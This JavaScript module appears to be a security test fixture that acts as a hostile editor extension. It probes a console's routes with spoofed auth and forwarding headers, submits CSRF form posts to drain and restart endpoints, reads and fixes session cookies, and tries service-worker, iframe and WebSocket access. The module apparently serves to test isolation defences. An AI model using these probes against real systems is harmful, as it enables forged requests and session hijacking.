// What a hostile extension tries: every route at both origins, in every way that a script has. It runs as a
// module in the editor's page; `told` stands in front of it.
const seen = { calls: [], workers: [], frames: [], windows: [], sockets: [], cookie: "" };

const fronts = ["", "/k/no-key-0123456789"];
const shown = [
  {},
  { Authorization: "Bearer x" },
  { "X-API-Key": "x" },
  { Authorization: "Basic " + btoa("me:x") },
  { "X-Fleet-Origin": "console", "X-Fleet-Node": "evil", "X-Forwarded-Host": new URL(told.console).host },
];

async function call(method, base, path, headers, mode) {
  const body = ["GET", "HEAD"].includes(method) ? undefined : "{}";
  const type = mode === "no-cors" ? "text/plain" : "application/json";
  const more = body === undefined ? {} : { "Content-Type": type };
  try {
    const answer = await fetch(base + path, {
      method: mode === "no-cors" && !["GET", "HEAD"].includes(method) ? "POST" : method,
      mode,
      body,
      credentials: "include",
      redirect: "follow",
      headers: mode === "no-cors" ? more : { ...more, ...headers },
      signal: AbortSignal.timeout(20000),
    });
    const text = answer.type === "opaque" ? "" : (await answer.text()).slice(0, 3000);
    seen.calls.push([method, base, path, answer.status, answer.type, text]);
  } catch (error) {
    seen.calls.push([method, base, path, 0, "error", String(error)]);
  }
}

async function everything() {
  const last = ([, path]) => path.endsWith("/logout");
  const routes = [...told.routes.filter((one) => !last(one)), ...told.routes.filter(last)];
  const work = [];
  const usual = told.session ? [shown[0], shown[1], shown.at(-1)] : [shown[0], shown.at(-1)];
  for (const [method, path, operators] of routes.filter((one) => !last(one))) {
    for (const headers of operators ? shown : usual) work.push(() => call(method, "", path, headers, "cors"));
    for (const front of fronts.slice(1)) work.push(() => call(method, "", front + path, {}, "cors"));
    work.push(() => call(method, told.console, path, {}, "cors"));
    work.push(() => call(method, told.console, path, {}, "no-cors"));
  }
  const runners = [...Array(6).keys()].map(async () => {
    for (let next = work.shift(); next; next = work.shift()) await next();
  });
  await Promise.all(runners);
}

async function workers() {
  for (const path of ["/extensions/evil/sw.js", "/assets/sw.js", "/sw.js"]) {
    try {
      await navigator.serviceWorker.register(path);
      seen.workers.push(path);
    } catch {
      // refused
    }
  }
}

async function frames() {
  for (const path of ["/", "/login", "/workflows", "/api/v1/nodes"]) {
    const frame = document.createElement("iframe");
    frame.src = told.console + path;
    const loaded = new Promise((resolve) => {
      frame.onload = resolve;
      setTimeout(resolve, 3000);
    });
    document.body.append(frame);
    await loaded;
    try {
      if (frame.contentDocument && frame.contentDocument.URL !== "about:blank") seen.frames.push(path);
    } catch {
      // another origin's
    }
  }
}

async function forms() {
  for (const path of ["/api/v1/nodes/evil/drain", "/api/v1/nodes/evil/restart", "/login", "/logout"]) {
    const target = document.createElement("iframe");
    target.name = `frame${path}`;
    const form = document.createElement("form");
    Object.assign(form, { method: "post", action: told.console + path, target: target.name, enctype: "text/plain" });
    form.innerHTML = '<input name="key" value="ops-key-0123456789">';
    document.body.append(target, form);
    form.submit();
  }
  await new Promise((resolve) => setTimeout(resolve, 1000));
}

async function sockets() {
  const place = told.console.replace("http", "ws");
  await new Promise((resolve) => {
    const socket = new WebSocket(`${place}/ws`);
    socket.onopen = () => { seen.sockets.push("console"); resolve(); };
    socket.onerror = resolve;
  });
}

window.seen = seen;
seen.cookie = document.cookie;
await workers();
await frames();
await forms();
await sockets();
await everything();
document.cookie = "fleet_console=evil; path=/";
for (const path of ["/workflows", "/publish"]) {
  document.cookie = `fleet_console=${told.session || "evil"}; path=${path}`;
}
seen.worker = (await navigator.serviceWorker.getRegistrations()).length;
seen.done = true;
